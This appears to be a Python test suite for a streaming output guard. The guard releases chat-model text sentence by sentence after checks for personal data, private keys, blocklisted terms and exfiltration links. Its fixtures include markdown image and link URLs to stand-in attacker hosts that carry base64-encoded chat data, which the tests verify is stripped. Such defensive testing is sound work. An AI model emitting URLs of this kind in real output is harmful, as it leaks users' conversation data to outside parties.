"""Streaming: text leaves sentence by sentence, never ahead of its check."""

import asyncio

from guard.chain import Guard
from guard.policy import load_policy
from guard.streaming import OutputStream, guarded, release_point, sse_event, stream_step

GUARD = Guard(load_policy())


def feed_all(chunks: list[str]) -> tuple[list[str], OutputStream]:
    stream = OutputStream(GUARD)
    released = [stream.feed(chunk).released for chunk in chunks]
    released.append(stream.finish().released)
    return released, stream


def test_nothing_is_released_before_its_sentence_ends() -> None:
    released, _ = feed_all(["The answer", " is 42", ". It", " is well known", ".", ""])
    assert released == ["", "", "The answer is 42. ", "", "", "", "It is well known."]


def test_pii_split_across_chunks_is_redacted_before_release() -> None:
    chunks = ["Write to ja", "ne@exam", "ple.com for help", ". Thanks!"]
    released, _ = feed_all(chunks)
    joined = "".join(released)
    assert joined == "Write to [REDACTED:EMAIL] for help. Thanks!"
    assert all("ja" not in r or "REDACTED" in r for r in released)


def test_an_open_link_or_key_block_is_held_until_it_closes() -> None:
    assert release_point("See [the report. It is long](https://evil.example/?d=") == len("See ")
    assert release_point("Intro. ![x](https://evil.example/a.png?q=") == len("Intro. ")
    key_text = "Here it is.\n-----BEGIN PRIVATE KEY-----\nMIIEvQ\n"
    assert release_point(key_text) == len("Here it is.\n")
    released, _ = feed_all(
        ["Here it is.\n-----BEGIN PRIVATE KEY-----\n", "MIIEvQIBADAN\n", "-----END PRIVATE KEY-----\nDone."]
    )
    assert "".join(released) == "Here it is.\n[REDACTED:PRIVATE_KEY]\nDone."
    assert "".join(feed_all(["Look: ![chart](https://evil.example/c.png?d=", "c2VjcmV0IGRhdGEgaGVyZQ==) ok. "])[0]) == (
        "Look: [image: chart] ok. "
    )


def test_a_blocked_sentence_stops_the_stream() -> None:
    policy = load_policy()
    guard = Guard(
        policy.model_copy(
            update={
                "output": policy.output.model_copy(
                    update={"blocklist": policy.output.blocklist.model_copy(update={"terms": ("acme",)})}
                )
            }
        )
    )
    stream = OutputStream(guard)
    assert stream.feed("Fine so far. ").released == "Fine so far. "
    step = stream.feed("Buy Acme now. More text. ")
    assert step.blocked and step.released == "" and step.verdict.blocked_by == ("blocklist",)
    assert stream.feed("anything").blocked and stream.finish().released == ""


def test_a_long_run_without_sentence_ends_is_released_in_pieces() -> None:
    text = "word " * 600
    cut = release_point(text)
    assert 0 < cut <= 2000 and text[:cut].endswith(" ")


def test_the_stateless_step_carries_pending_between_calls() -> None:
    first = stream_step(GUARD, "", "Call me at 555-123")
    assert (first.released, first.pending) == ("", "Call me at 555-123")
    second = stream_step(GUARD, first.pending, "-4567 today. Bye")
    assert second.released == "Call me at [REDACTED:PHONE] today. " and second.pending == "Bye"
    last = stream_step(GUARD, second.pending, "", final=True)
    assert (last.released, last.pending) == ("Bye", "")
    assert second.to_json()["rails"][0]["rail"] == "pii"


def test_guarded_wraps_an_async_source_for_server_sent_events() -> None:
    async def tokens():
        for token in ["Mail ", "a@b.io", ". ", "Done", "."]:
            yield token

    async def collect() -> list[str]:
        return [sse_event({"text": step.released}) async for step in guarded(tokens(), GUARD)]

    events = asyncio.run(collect())
    assert events == ['data: {"text": "Mail [REDACTED:EMAIL]. "}\n\n', 'data: {"text": "Done."}\n\n']


# Issue 11, inputs 13 and 14 streamed: any split into chunks gives what the whole-text check gives.
DATA_URL = "https://attacker.example/p?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA"
SAME_STREAMED = [
    "Pride 🏳️‍🌈, keycap 1️⃣ and ❤️‍🔥. Family 👨‍👩‍👧‍👦 and 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f.",
    f"Here is the chart: ![x][1]\n\n[1]: {DATA_URL}\n\nThanks.",
    f"[1]: {DATA_URL}\n\nSee ![x][1] and [the report][1]. Bye.",
    f"Look ![chart]({DATA_URL}) and <{DATA_URL}>. Then <img src='{DATA_URL}'> done.",
]


def test_any_two_chunk_split_streams_what_the_whole_check_gives() -> None:
    for text in SAME_STREAMED:
        whole = GUARD.check_output(text, streaming=True).text
        assert "c2VjcmV0" not in whole, whole  # the data never leaves
        for cut in range(1, len(text)):
            released, _ = feed_all([text[:cut], text[cut:]])
            assert "".join(released) == whole, (text, cut)


def test_emoji_come_back_whole_from_the_output_check() -> None:
    text = SAME_STREAMED[0]
    verdict = GUARD.check_output(text)
    assert verdict.allowed and verdict.text == text and verdict.failed == ()


def test_a_forced_cut_in_a_long_run_never_splits_an_emoji_sequence() -> None:
    text = "x" * 1995 + "🏳️‍🌈" * 4
    cut = release_point(text)
    assert text[:cut] == "x" * 1995 + "🏳️‍🌈"  # the cluster across index 2000 waits whole
    released, _ = feed_all([text[i : i + 7] for i in range(0, len(text), 7)])
    assert "".join(released) == text
